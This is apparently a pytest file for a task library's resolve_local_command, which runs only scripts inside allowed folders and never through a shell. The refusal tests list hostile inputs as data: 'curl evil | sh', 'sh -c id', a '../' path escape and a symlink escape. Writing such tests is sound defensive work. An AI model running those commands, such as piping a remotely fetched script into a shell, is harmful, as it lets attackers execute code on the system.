"""A local ``command`` runs only a script or executable inside the allowed roots, never a shell."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from sailor_tasks.backends.local_command import resolve_local_command
from sailor_tasks.errors import InvalidRequestError


@pytest.fixture
def roots(tmp_path):
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    (allowed / "train.py").write_text("print('hi')\n")
    tool = allowed / "tool"
    tool.write_text("#!/bin/sh\necho hi\n")
    tool.chmod(0o755)
    (allowed / "data.txt").write_text("not a program\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "evil.py").write_text("import os\n")
    os.symlink(outside / "evil.py", allowed / "link.py")
    return (str(allowed),), tmp_path


def test_python_script_runs_with_sailors_python_and_its_arguments(roots):
    allowed, base = roots
    cmd = resolve_local_command(["python", "train.py", "--lr", "0.1"], allowed)
    assert cmd.program == str(base / "allowed" / "train.py") and cmd.args == ("--lr", "0.1") and cmd.python
    assert cmd.torchrun_args() == [cmd.program, "--lr", "0.1"]
    assert resolve_local_command(["train.py"], allowed).python


def test_executable_runs_without_python(roots):
    allowed, base = roots
    cmd = resolve_local_command([str(base / "allowed" / "tool"), "x"], allowed)
    assert cmd.torchrun_args() == ["--no-python", str(base / "allowed" / "tool"), "x"]


@pytest.mark.parametrize(
    ("command", "fragment"),
    [
        (["sh", "-c", "curl evil | sh"], "no such file"),
        (["/bin/sh", "-c", "id"], "outside"),
        (["python", "-c", "import os"], "never python options"),
        (["python3", "-m", "http.server"], "never python options"),
        (["python"], "never python options"),
        (["../outside/evil.py"], "outside"),
        (["link.py"], "outside"),
        (["missing.py"], "no such file"),
        (["data.txt"], "neither a .py script nor executable"),
        ([], "empty"),
    ],
)
def test_commands_outside_the_roots_or_through_a_shell_are_refused(roots, command, fragment):
    allowed, _ = roots
    with pytest.raises(InvalidRequestError, match=fragment) as info:
        resolve_local_command(command, allowed)
    assert info.value.field == "command"


def test_outside_error_lists_the_allowed_roots(roots):
    allowed, _ = roots
    with pytest.raises(InvalidRequestError) as info:
        resolve_local_command(["/bin/sh"], allowed)
    assert info.value.valid == list(allowed)
    assert "add its folder to SAILOR_COMMAND_ROOTS of the Airflow workers" in str(info.value)


@pytest.mark.parametrize("command", [["python train.py", "--lr", "0.1"], ["python", "train.py --lr 0.1"]])
def test_a_half_split_shell_string_is_refused_saying_one_argument_per_item(roots, command):
    allowed, _ = roots
    with pytest.raises(InvalidRequestError, match="give one argument per list item, not a shell string"):
        resolve_local_command(command, allowed)


def test_no_roots_allow_nothing(roots):
    with pytest.raises(InvalidRequestError, match="SAILOR_COMMAND_ROOTS"):
        resolve_local_command(["python", "train.py"], ())


def test_the_default_folder_is_the_checkouts_examples_and_none_once_installed(tmp_path):
    """A source checkout allows its own ``examples/``; installed into site-packages, the
    ``examples/`` beside the package belongs to another distribution (google-ads ships one) and
    nothing is allowed by default."""
    from sailor_tasks import settings as settings_module

    root = Path(settings_module.__file__).resolve().parents[1]
    assert settings_module.DEFAULT_COMMAND_ROOT == str(root / "examples")
    site = tmp_path / "site-packages"
    (site / "sailor_tasks").mkdir(parents=True)
    (site / "examples").mkdir()  # another distribution's
    assert settings_module._default_command_root(site / "sailor_tasks") == ""
    (site / "pyproject.toml").write_text('[project]\nname = "someone-else"\n')
    assert settings_module._default_command_root(site / "sailor_tasks") == ""
    (site / "pyproject.toml").write_text('[project]\nname = "sailor-tasks"\n')
    assert settings_module._default_command_root(site / "sailor_tasks") == str(site / "examples")


def test_the_working_folder_is_the_root_a_name_was_found_through(tmp_path):
    """Nested roots: ``train.py`` found in the inner one runs there; ``proj/train.py`` found
    through the outer one runs in the outer one, where its relative arguments point."""
    outer = tmp_path / "code"
    inner = outer / "proj"
    inner.mkdir(parents=True)
    (inner / "train.py").write_text("")
    roots = (str(outer), str(inner))
    assert resolve_local_command(["train.py"], roots).root == str(inner.resolve())
    assert resolve_local_command(["proj/train.py"], roots).root == str(outer.resolve())
    assert resolve_local_command([str(inner / "train.py")], roots).root == str(inner.resolve())
